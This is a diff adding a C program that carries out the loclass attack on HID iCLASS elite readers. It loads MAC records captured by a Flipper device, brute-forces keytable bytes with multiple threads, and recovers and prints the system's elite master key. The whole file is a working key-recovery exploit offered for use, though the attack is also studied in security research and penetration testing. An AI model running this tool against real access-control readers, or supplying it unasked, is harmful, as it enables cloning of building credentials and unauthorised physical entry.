@@ -0,0 +1,472 @@
+// Host-side loclass attack: recovers an elite master key from .loclass.bin or .loclass.log.
+//
+// Build from the repository root:
+//   cc -O3 -pthread -Ilib/loclass -o loclass_recover tools/loclass_{recover,reader}.c lib/loclass/*.c
+//
+// Usage: loclass_recover [-t threads] <.loclass.bin|.loclass.log>
+//
+// Every MAC record (or loclass-v1-mac line) is one reader MAC over (CC, NR)
+// for a CSN the Flipper presented. hash1() of those CSNs only selects a few
+// bytes of the elite keytable, so the CSNs are attacked one at a time,
+// cheapest first: the keytable bytes a CSN needs that are still unknown are
+// brute forced until its MACs verify, and those bytes are then known for the
+// next CSN. Keytable bytes 0-15 are y[0] and z[0] of hash2(), which give the
+// master key.
+
+#include <errno.h>
+#include <getopt.h>
+#include <inttypes.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "optimized_cipher.h"
+#include "optimized_des.h"
+#include "optimized_elite.h"
+#include "optimized_ikeys.h"
+#include "loclass_reader.h"
+
+#define LOCLASS_RECOVER_MAX_CSNS        32
+#define LOCLASS_RECOVER_MAX_MACS        16
+#define LOCLASS_RECOVER_MAX_THREADS     256
+// Each unknown byte is a factor of 256 in work, proxmark3 needs at most 3 for its CSNs
+#define LOCLASS_RECOVER_MAX_UNKNOWN     3
+#define LOCLASS_RECOVER_CHUNK           4096
+// Byte 7 of the selected key only lands in DES parity bits, so it never affects the MAC
+#define LOCLASS_RECOVER_KEY_BYTES_USED  7
+#define LOCLASS_RECOVER_MASTER_KEY_BYTES 16
+#define LOCLASS_RECOVER_POLL_US         (20 * 1000)
+#define LOCLASS_RECOVER_REPORT_S        1.0
+
+typedef struct {
+    uint8_t cc_nr[12];
+    uint8_t mac[4];
+} LoclassRecoverMac;
+
+typedef struct {
+    uint8_t csn[8];
+    uint8_t key_index[8];
+    LoclassRecoverMac macs[LOCLASS_RECOVER_MAX_MACS];
+    size_t num_macs;
+    bool done;
+} LoclassRecoverItem;
+
+typedef struct {
+    const LoclassRecoverItem* item;
+    uint8_t keytable[LOCLASS_ELITE_KEYTABLE_LEN];
+    uint8_t unknown[LOCLASS_RECOVER_MAX_UNKNOWN];
+    size_t num_unknown;
+    uint64_t space;
+
+    atomic_uint_fast64_t next;
+    atomic_uint_fast64_t tested;
+    atomic_bool found;
+    uint64_t found_value;
+    pthread_mutex_t found_lock;
+} LoclassRecoverJob;
+
+static double loclass_recover_now(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+static bool loclass_recover_parse_hex(const char* hex, uint8_t* out, size_t len) {
+    if(strlen(hex) != len * 2) return false;
+    for(size_t i = 0; i < len; i++) {
+        unsigned int byte;
+        if(sscanf(hex + i * 2, "%2x", &byte) != 1) return false;
+        out[i] = byte;
+    }
+    return true;
+}
+
+static void loclass_recover_print_hex(const uint8_t* data, size_t len) {
+    for(size_t i = 0; i < len; i++) printf("%02X", data[i]);
+}
+
+static void loclass_recover_add(
+    LoclassRecoverItem* items,
+    size_t* num_items,
+    const uint8_t csn[8],
+    const LoclassRecoverMac* mac) {
+    LoclassRecoverItem* item = NULL;
+    for(size_t i = 0; i < *num_items; i++) {
+        if(memcmp(items[i].csn, csn, 8) == 0) {
+            item = &items[i];
+            break;
+        }
+    }
+    if(!item) {
+        if(*num_items == LOCLASS_RECOVER_MAX_CSNS) return;
+        item = &items[(*num_items)++];
+        memset(item, 0, sizeof(LoclassRecoverItem));
+        memcpy(item->csn, csn, 8);
+        loclass_hash1(csn, item->key_index);
+    }
+
+    // Logs are appended across sessions, the same capture can show up more than once
+    for(size_t i = 0; i < item->num_macs; i++) {
+        if(memcmp(&item->macs[i], mac, sizeof(*mac)) == 0) return;
+    }
+    if(item->num_macs < LOCLASS_RECOVER_MAX_MACS) {
+        item->macs[item->num_macs++] = *mac;
+    }
+}
+
+static size_t loclass_recover_load_text(const char* path, LoclassRecoverItem* items) {
+    FILE* file = fopen(path, "r");
+    if(!file) {
+        fprintf(stderr, "%s: %s\n", path, strerror(errno));
+        return 0;
+    }
+
+    size_t num_items = 0;
+    size_t num_lines = 0;
+    char line[256];
+    while(fgets(line, sizeof(line), file)) {
+        char csn_hex[17], cc_hex[17], nr_hex[9], mac_hex[9];
+        unsigned long ts;
+        unsigned int log_no;
+        if(sscanf(
+               line,
+               "loclass-v1-mac ts %lu no %u csn %16s cc %16s nr %8s mac %8s",
+               &ts,
+               &log_no,
+               csn_hex,
+               cc_hex,
+               nr_hex,
+               mac_hex) != 6) {
+            continue;
+        }
+
+        uint8_t csn[8];
+        LoclassRecoverMac mac;
+        if(!loclass_recover_parse_hex(csn_hex, csn, 8) ||
+           !loclass_recover_parse_hex(cc_hex, mac.cc_nr, 8) ||
+           !loclass_recover_parse_hex(nr_hex, mac.cc_nr + 8, 4) ||
+           !loclass_recover_parse_hex(mac_hex, mac.mac, 4)) {
+            fprintf(stderr, "skipping malformed line: %s", line);
+            continue;
+        }
+        num_lines++;
+        loclass_recover_add(items, &num_items, csn, &mac);
+    }
+    fclose(file);
+
+    printf("%zu MACs for %zu CSNs in %s\n", num_lines, num_items, path);
+    return num_items;
+}
+
+static size_t loclass_recover_load_binary(const char* path, LoclassRecoverItem* items) {
+    LoclassReader* reader = loclass_reader_open(path);
+    if(!reader) {
+        fprintf(stderr, "%s: %s\n", path, strerror(errno));
+        return 0;
+    }
+
+    size_t num_items = 0;
+    size_t num_records = 0;
+    LoclassReaderEntry entry;
+    while(loclass_reader_next(reader, &entry)) {
+        if(!entry.csn) continue;
+        LoclassRecoverMac mac;
+        memcpy(mac.cc_nr, entry.record->epurse, 8);
+        memcpy(mac.cc_nr + 8, entry.record->nr, 4);
+        memcpy(mac.mac, entry.record->mac, 4);
+        num_records++;
+        loclass_recover_add(items, &num_items, entry.csn, &mac);
+    }
+    loclass_reader_close(reader);
+
+    printf("%zu MACs for %zu CSNs in %s\n", num_records, num_items, path);
+    return num_items;
+}
+
+static size_t loclass_recover_load(const char* path, LoclassRecoverItem* items) {
+    return loclass_reader_probe(path) ? loclass_recover_load_binary(path, items) :
+                                        loclass_recover_load_text(path, items);
+}
+
+static size_t loclass_recover_unknown(
+    const LoclassRecoverItem* item,
+    const bool known[LOCLASS_ELITE_KEYTABLE_LEN],
+    uint8_t unknown[LOCLASS_RECOVER_KEY_BYTES_USED]) {
+    size_t num_unknown = 0;
+    for(size_t i = 0; i < LOCLASS_RECOVER_KEY_BYTES_USED; i++) {
+        uint8_t index = item->key_index[i];
+        if(known[index] || memchr(unknown, index, num_unknown)) continue;
+        unknown[num_unknown++] = index;
+    }
+    return num_unknown;
+}
+
+static void loclass_recover_div_key(
+    const LoclassRecoverItem* item,
+    const uint8_t* keytable,
+    uint8_t div_key[8]) {
+    uint8_t key_sel[8];
+    uint8_t key_sel_p[8];
+    for(size_t i = 0; i < 8; i++) key_sel[i] = keytable[item->key_index[i]];
+    loclass_permutekey_rev(key_sel, key_sel_p);
+    loclass_diversifyKey(item->csn, key_sel_p, div_key);
+}
+
+static bool loclass_recover_check_macs(
+    const LoclassRecoverItem* item,
+    const uint8_t div_key[8],
+    size_t first) {
+    for(size_t i = first; i < item->num_macs; i++) {
+        LoclassRecoverMac mac = item->macs[i];
+        uint8_t key[8];
+        uint8_t calculated[4];
+        memcpy(key, div_key, 8);
+        loclass_opt_doReaderMAC(mac.cc_nr, key, calculated);
+        if(memcmp(calculated, mac.mac, 4) != 0) return false;
+    }
+    return true;
+}
+
+static void* loclass_recover_worker(void* context) {
+    LoclassRecoverJob* job = context;
+    const LoclassRecoverItem* item = job->item;
+    uint8_t keytable[LOCLASS_ELITE_KEYTABLE_LEN];
+    uint8_t keys[LOCLASS_OPT_MULTI_KEYS * 8];
+    uint8_t div_keys[LOCLASS_OPT_MULTI_KEYS * 8];
+    memcpy(keytable, job->keytable, sizeof(keytable));
+
+    while(!atomic_load(&job->found)) {
+        uint64_t start = atomic_fetch_add(&job->next, LOCLASS_RECOVER_CHUNK);
+        if(start >= job->space) break;
+        uint64_t end = start + LOCLASS_RECOVER_CHUNK;
+        if(end > job->space) end = job->space;
+
+        for(uint64_t value = start; value < end && !atomic_load(&job->found);) {
+            size_t num_keys = 0;
+            for(; num_keys < LOCLASS_OPT_MULTI_KEYS && value + num_keys < end; num_keys++) {
+                uint64_t candidate = value + num_keys;
+                uint8_t key_sel[8];
+                for(size_t j = 0; j < job->num_unknown; j++) {
+                    keytable[job->unknown[j]] = candidate >> (8 * j);
+                }
+                for(size_t j = 0; j < 8; j++) key_sel[j] = keytable[item->key_index[j]];
+                loclass_permutekey_rev(key_sel, keys + num_keys * 8);
+            }
+            loclass_diversifyKey_batch(item->csn, keys, num_keys, div_keys);
+
+            LoclassLanes_t hits = loclass_opt_checkReaderMAC_multi(
+                item->macs[0].cc_nr, div_keys, num_keys, item->macs[0].mac);
+            for(size_t lane = 0; hits; lane++, hits >>= 1) {
+                // The first MAC only has 32 bits, the others weed out false positives
+                if(!(hits & 1) || !loclass_recover_check_macs(item, div_keys + lane * 8, 1)) {
+                    continue;
+                }
+                pthread_mutex_lock(&job->found_lock);
+                if(!atomic_load(&job->found)) {
+                    job->found_value = value + lane;
+                    atomic_store(&job->found, true);
+                }
+                pthread_mutex_unlock(&job->found_lock);
+                break;
+            }
+
+            atomic_fetch_add(&job->tested, num_keys);
+            value += num_keys;
+        }
+    }
+
+    return NULL;
+}
+
+static bool loclass_recover_item(
+    LoclassRecoverItem* item,
+    uint8_t keytable[LOCLASS_ELITE_KEYTABLE_LEN],
+    bool known[LOCLASS_ELITE_KEYTABLE_LEN],
+    size_t num_threads,
+    uint64_t* total_tested) {
+    uint8_t unknown[LOCLASS_RECOVER_KEY_BYTES_USED];
+    size_t num_unknown = loclass_recover_unknown(item, known, unknown);
+
+    printf("CSN ");
+    loclass_recover_print_hex(item->csn, 8);
+    printf(": %zu MACs, %zu unknown keytable bytes\n", item->num_macs, num_unknown);
+
+    if(num_unknown == 0) {
+        uint8_t div_key[8];
+        loclass_recover_div_key(item, keytable, div_key);
+        if(!loclass_recover_check_macs(item, div_key, 0)) {
+            fprintf(stderr, "  MACs do not verify with the keytable recovered so far\n");
+            return false;
+        }
+        return true;
+    }
+
+    LoclassRecoverJob* job = calloc(1, sizeof(LoclassRecoverJob));
+    job->item = item;
+    memcpy(job->keytable, keytable, LOCLASS_ELITE_KEYTABLE_LEN);
+    memcpy(job->unknown, unknown, num_unknown);
+    job->num_unknown = num_unknown;
+    job->space = 1ULL << (8 * num_unknown);
+    pthread_mutex_init(&job->found_lock, NULL);
+
+    pthread_t threads[LOCLASS_RECOVER_MAX_THREADS];
+    double start = loclass_recover_now();
+    for(size_t i = 0; i < num_threads; i++) {
+        pthread_create(&threads[i], NULL, loclass_recover_worker, job);
+    }
+
+    // Progress, until every worker is out of work or one of them found the bytes
+    double last_report = start;
+    while(!atomic_load(&job->found) && atomic_load(&job->next) < job->space) {
+        usleep(LOCLASS_RECOVER_POLL_US);
+        if(loclass_recover_now() - last_report < LOCLASS_RECOVER_REPORT_S) continue;
+        last_report = loclass_recover_now();
+        uint64_t tested = atomic_load(&job->tested);
+        double elapsed = loclass_recover_now() - start;
+        double rate = tested / elapsed;
+        printf(
+            "  %" PRIu64 "/%" PRIu64 " tested, %.0f keys/s, ETA %.0fs\n",
+            tested,
+            job->space,
+            rate,
+            rate > 0 ? (job->space - tested) / rate : 0.0);
+    }
+    for(size_t i = 0; i < num_threads; i++) {
+        pthread_join(threads[i], NULL);
+    }
+
+    double elapsed = loclass_recover_now() - start;
+    uint64_t tested = atomic_load(&job->tested);
+    *total_tested += tested;
+    bool found = atomic_load(&job->found);
+    if(found) {
+        printf(
+            "  found after %" PRIu64 " keys in %.2fs (%.0f keys/s):",
+            tested,
+            elapsed,
+            tested / elapsed);
+        for(size_t j = 0; j < num_unknown; j++) {
+            keytable[unknown[j]] = job->found_value >> (8 * j);
+            known[unknown[j]] = true;
+            printf(" [%u]=%02X", unknown[j], keytable[unknown[j]]);
+        }
+        printf("\n");
+    } else {
+        fprintf(stderr, "  no keytable bytes verify these MACs\n");
+    }
+
+    pthread_mutex_destroy(&job->found_lock);
+    free(job);
+    return found;
+}
+
+static bool loclass_recover_master_key(const uint8_t* keytable, uint8_t master_key[8]) {
+    // hash2(): z[0] = DES_enc(key, ~key) and y[0] = DES_dec(z[0], ~key),
+    // so ~key = DES_enc(z[0], y[0])
+    const uint8_t* y_0 = keytable;
+    const uint8_t* z_0 = keytable + 8;
+    uint8_t z_0_p[8];
+    uint8_t key_negated[8];
+    LoclassDesSchedule_t sched;
+
+    loclass_permutekey_rev(z_0, z_0_p);
+    loclass_des_setkey_enc(&sched, z_0_p);
+    loclass_des_crypt_ecb(&sched, y_0, key_negated);
+    for(size_t i = 0; i < 8; i++) master_key[i] = ~key_negated[i];
+
+    uint8_t check[LOCLASS_ELITE_KEYTABLE_LEN];
+    loclass_hash2(master_key, check);
+    return memcmp(check, keytable, LOCLASS_RECOVER_MASTER_KEY_BYTES) == 0;
+}
+
+int main(int argc, char* argv[]) {
+    long num_threads = sysconf(_SC_NPROCESSORS_ONLN);
+    int opt;
+    while((opt = getopt(argc, argv, "t:")) != -1) {
+        if(opt == 't') {
+            num_threads = strtol(optarg, NULL, 0);
+        } else {
+            optind = argc + 1;
+            break;
+        }
+    }
+    if(optind != argc - 1 || num_threads < 1 || num_threads > LOCLASS_RECOVER_MAX_THREADS) {
+        fprintf(stderr, "usage: %s [-t threads] <.loclass.bin|.loclass.log>\n", argv[0]);
+        return 1;
+    }
+
+    static LoclassRecoverItem items[LOCLASS_RECOVER_MAX_CSNS];
+    size_t num_items = loclass_recover_load(argv[optind], items);
+    if(num_items == 0) return 1;
+
+    uint8_t keytable[LOCLASS_ELITE_KEYTABLE_LEN] = {0};
+    bool known[LOCLASS_ELITE_KEYTABLE_LEN] = {false};
+    uint64_t total_tested = 0;
+    double start = loclass_recover_now();
+    printf("%ld worker threads, %zu keys per MAC batch\n", num_threads, LOCLASS_OPT_MULTI_KEYS);
+
+    for(size_t round = 0; round < num_items; round++) {
+        // Cheapest CSN first, it tells the following ones more bytes
+        LoclassRecoverItem* next = NULL;
+        size_t next_unknown = SIZE_MAX;
+        for(size_t i = 0; i < num_items; i++) {
+            uint8_t unknown[LOCLASS_RECOVER_KEY_BYTES_USED];
+            size_t num_unknown = loclass_recover_unknown(&items[i], known, unknown);
+            if(!items[i].done && num_unknown < next_unknown) {
+                next = &items[i];
+                next_unknown = num_unknown;
+            }
+        }
+        if(next_unknown > LOCLASS_RECOVER_MAX_UNKNOWN) {
+            fprintf(
+                stderr,
+                "every remaining CSN needs %zu+ unknown keytable bytes, "
+                "collect the standard loclass CSNs\n",
+                next_unknown);
+            return 1;
+        }
+        if(!loclass_recover_item(next, keytable, known, num_threads, &total_tested)) return 1;
+        next->done = true;
+    }
+
+    for(size_t i = 0; i < LOCLASS_RECOVER_MASTER_KEY_BYTES; i++) {
+        if(!known[i]) {
+            fprintf(stderr, "keytable byte %zu was not covered by any CSN\n", i);
+            return 1;
+        }
+    }
+
+    uint8_t master_key[8];
+    if(!loclass_recover_master_key(keytable, master_key)) {
+        fprintf(stderr, "recovered keytable is not consistent with any master key\n");
+        return 1;
+    }
+
+    // Final check with the real keytable: every captured MAC has to verify
+    uint8_t full_keytable[LOCLASS_ELITE_KEYTABLE_LEN];
+    loclass_hash2(master_key, full_keytable);
+    for(size_t i = 0; i < num_items; i++) {
+        uint8_t div_key[8];
+        loclass_elite_div_key_from_table(items[i].csn, full_keytable, div_key);
+        if(!loclass_recover_check_macs(&items[i], div_key, 0)) {
+            fprintf(stderr, "master key does not verify the MACs of every CSN\n");
+            return 1;
+        }
+    }
+
+    double elapsed = loclass_recover_now() - start;
+    printf(
+        "%" PRIu64 " keys in %.2fs (%.0f keys/s)\n",
+        total_tested,
+        elapsed,
+        total_tested / elapsed);
+    printf("Master key: ");
+    loclass_recover_print_hex(master_key, 8);
+    printf("\n");
+    return 0;
+}